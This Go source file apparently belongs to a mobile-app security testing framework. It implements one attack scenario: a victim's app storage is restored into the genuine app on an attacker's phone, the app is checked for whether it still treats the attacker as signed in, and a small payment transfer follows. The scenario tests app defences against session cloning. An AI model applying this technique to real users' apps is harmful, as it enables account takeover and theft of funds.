package appside

import (
	"context"
	"fmt"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/stages/catalog"
)

// BackupRestore puts a copy of what the app stores on the victim's phone into the genuine app
// on the attacker's own phone. There is nothing to take out of it, to understand or to sign:
// the app makes its calls as it always does, and takes who is signed in from its storage.
//
//keyladder:code attack-backup-restore
func BackupRestore(ctx context.Context, g *attack.Given) (attack.Result, error) {
	phone, err := g.Install(ctx, g.Package, nil)
	if err != nil {
		return attack.Result{}, err
	}
	defer phone.Close()
	if err := phone.Device.Restore(phone.Package, g.Storage); err != nil {
		return attack.Result{}, fmt.Errorf("put the copy into the app's storage: %w", err)
	}
	g.Say("Installed the genuine app on our own phone, and put the copy of the victim's storage into its own: %d items.", len(g.Storage))
	if err := phone.Start(ctx); err != nil {
		return attack.Result{}, err
	}
	home, err := phone.App.Home(ctx)
	if err != nil {
		return attack.Result{}, fmt.Errorf("use the app: %w", err)
	}
	if !home.SignedIn {
		return attack.Result{Check: catalog.CheckNotStored, Obstacle: "the app finds nobody in its storage who is signed in"}, nil
	}
	g.Say("Started it: it takes us for %s.", home.User)
	payment, err := phone.Payment(ctx, attack.Pittance)
	if now, failed := phone.App.Home(ctx); err != nil && failed == nil && !now.SignedIn {
		return attack.Result{Obstacle: "the app could do nothing with what stands for the victim, and has signed them out: " + err.Error()}, nil
	}
	if err != nil {
		return attack.Stopped(err)
	}
	if _, err := attack.Shown(phone.App.Transfer(ctx, payment)); err != nil {
		return attack.Stopped(err)
	}
	g.Say("Transferred %d minor units from %s to %s with it.", payment.Amount, payment.From, payment.To)
	return attack.Result{Claim: true}, g.SpendLoot(ctx, phone.Use)
}
